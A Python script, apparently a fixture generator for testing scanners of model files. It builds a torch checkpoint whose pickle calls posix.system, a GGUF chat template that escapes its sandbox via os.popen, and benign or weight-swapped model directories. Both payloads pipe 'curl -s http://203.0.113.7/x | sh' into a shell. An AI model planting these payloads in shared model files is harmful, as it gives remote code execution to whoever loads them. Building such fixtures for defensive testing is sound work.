#!/usr/bin/env python3
"""Makes what an attacker would hand out. Usage: make.py checkpoint|template|model|swapped PATH

checkpoint: a torch file whose pickle runs a command when it is loaded.
template:   a GGUF file whose chat template reaches out of its sandbox.
model:      the directory of a small language model, with random weights.
swapped:    in that directory, one matrix of attention for another one of the same shape.
"""
import json
import os
import random
import struct
import sys
import zipfile

LAYERS, HIDDEN, INNER, HEADS, WORDS = 2, 32, 64, 4, 96

# The opcodes of a state dict with one entry more: a call of posix.system.
CALL = b"\x80\x02}q\x00(X\x06\x00\x00\x00weightcposix\nsystem\nX%s%s\x85Ru."
COMMAND = b"curl -s http://203.0.113.7/x | sh"

TEMPLATE = (
    "{% for message in messages %}<|{{ message['role'] }}|>{{ message['content'] }}{% endfor %}"
    "{{ cycler.__init__.__globals__.os.popen('curl -s http://203.0.113.7/x | sh').read() }}"
)


def checkpoint(path):
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("model/data.pkl", CALL % (struct.pack("<I", len(COMMAND)), COMMAND))
        archive.writestr("model/version", "3\n")


def text(value):
    data = value.encode()
    return struct.pack("<Q", len(data)) + data


def template(path):
    pairs = {"general.architecture": "llama", "tokenizer.chat_template": TEMPLATE}
    header = b"GGUF" + struct.pack("<IQQ", 3, 1, len(pairs))
    for key, value in pairs.items():
        header += text(key) + struct.pack("<I", 8) + text(value)
    header += text("token_embd.weight") + struct.pack("<IQQIQ", 2, HIDDEN, WORDS, 0, 0)
    header += bytes(-len(header) % 32)
    with open(path, "wb") as out:
        out.write(header + weights(random.Random(1), HIDDEN * WORDS))


def weights(source, count):
    return struct.pack("<%df" % count, *(source.gauss(0, 0.02) for _ in range(count)))


def shapes():
    yield "model.embed_tokens.weight", [WORDS, HIDDEN]
    for layer in range(LAYERS):
        for name in ("q_proj", "k_proj", "v_proj", "o_proj"):
            yield "model.layers.%d.self_attn.%s.weight" % (layer, name), [HIDDEN, HIDDEN]
        yield "model.layers.%d.mlp.gate_proj.weight" % layer, [INNER, HIDDEN]
        yield "model.layers.%d.mlp.up_proj.weight" % layer, [INNER, HIDDEN]
        yield "model.layers.%d.mlp.down_proj.weight" % layer, [HIDDEN, INNER]
        yield "model.layers.%d.input_layernorm.weight" % layer, [HIDDEN]
        yield "model.layers.%d.post_attention_layernorm.weight" % layer, [HIDDEN]
    yield "model.norm.weight", [HIDDEN]
    yield "lm_head.weight", [WORDS, HIDDEN]


def model(path, swapped=None):
    os.makedirs(path, exist_ok=True)
    header, data = {}, b""
    for number, (name, shape) in enumerate(shapes()):
        count = shape[0] * (shape[1] if len(shape) > 1 else 1)
        part = weights(random.Random(1000 if name == swapped else number), count)
        header[name] = {"dtype": "F32", "shape": shape, "data_offsets": [len(data), len(data) + len(part)]}
        data += part
    head = json.dumps(header).encode()
    with open(os.path.join(path, "model.safetensors"), "wb") as out:
        out.write(struct.pack("<Q", len(head)) + head + data)
    config = {
        "architectures": ["LlamaForCausalLM"],
        "model_type": "llama",
        "hidden_size": HIDDEN,
        "intermediate_size": INNER,
        "num_attention_heads": HEADS,
        "num_hidden_layers": LAYERS,
        "tie_word_embeddings": False,
        "torch_dtype": "float32",
        "vocab_size": WORDS,
    }
    with open(os.path.join(path, "config.json"), "w") as out:
        json.dump(config, out, indent=2)


def main():
    kinds = {
        "checkpoint": checkpoint,
        "template": template,
        "model": model,
        "swapped": lambda path: model(path, "model.layers.1.self_attn.v_proj.weight"),
    }
    if len(sys.argv) != 3 or sys.argv[1] not in kinds:
        sys.exit(__doc__)
    kinds[sys.argv[1]](sys.argv[2])


if __name__ == "__main__":
    main()
